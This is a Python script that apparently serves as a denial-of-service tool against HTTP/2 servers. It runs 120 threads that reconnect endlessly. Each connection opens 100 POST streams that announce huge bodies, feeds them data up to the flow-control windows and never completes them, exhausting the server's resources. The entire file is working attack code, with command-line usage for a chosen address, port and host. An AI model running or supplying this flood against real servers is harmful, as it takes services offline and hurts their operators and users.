"""A storm of unfinished HTTP/2 requests, as a program that goes on until it is killed.

Each connection opens as many streams as it may, sends bodies as far as the windows allow, and never
ends one.
usage: storm.py ADDRESS PORT HOST
"""

import socket
import sys
import threading
import time
from contextlib import suppress

from wire import H2_HELLO, h2_frame, h2_head

CONNECTIONS, STREAMS = 120, 100
WINDOW, PIECE = 65535, 16384
_DATA, _RESET, _WINDOW_UPDATE = 0, 3, 8


class Connection:
    """One connection and its streams, each with the bytes that it may still send."""

    def __init__(self, address: str, port: int, host: str) -> None:
        self._dialled = socket.create_connection((address, port), 10)
        self._dialled.settimeout(0.3)
        self._open = {2 * n + 1: WINDOW for n in range(STREAMS)}
        self._room = WINDOW
        fields = ((":method", "POST"), (":scheme", "http"), (":path", "/"),
                  (":authority", host), ("content-length", "100000000"))  # fmt: skip
        requests = (h2_head(fields, n, ended=False) for n in self._open)
        self._dialled.sendall(H2_HELLO + b"".join(requests))

    def run(self) -> None:
        said = b""
        while True:
            self._send()
            with suppress(TimeoutError):
                if not (piece := self._dialled.recv(65536)):
                    return
                said = self._heard(said + piece)

    def _send(self) -> None:
        for stream in self._open:
            while self._open[stream] >= PIECE <= self._room:
                self._dialled.sendall(h2_frame(_DATA, 0, stream, bytes(PIECE)))
                self._open[stream] -= PIECE
                self._room -= PIECE

    def _heard(self, said: bytes) -> bytes:
        """Take in whole frames; return the rest."""
        while len(said) >= 9 and len(said) >= (end := 9 + int.from_bytes(said[:3])):
            kind, stream = said[3], int.from_bytes(said[5:9])
            if kind == _WINDOW_UPDATE and stream == 0:
                self._room += int.from_bytes(said[9:13])
            elif kind == _WINDOW_UPDATE and stream in self._open:
                self._open[stream] += int.from_bytes(said[9:13])
            elif kind == _RESET:
                self._open.pop(stream, None)
            said = said[end:]
        return said


def one(address: str, port: int, host: str) -> None:
    while True:
        with suppress(OSError):
            Connection(address, port, host).run()
        time.sleep(0.1)


if __name__ == "__main__":
    for _ in range(CONNECTIONS):
        threading.Thread(target=one, args=(sys.argv[1], int(sys.argv[2]), sys.argv[3])).start()
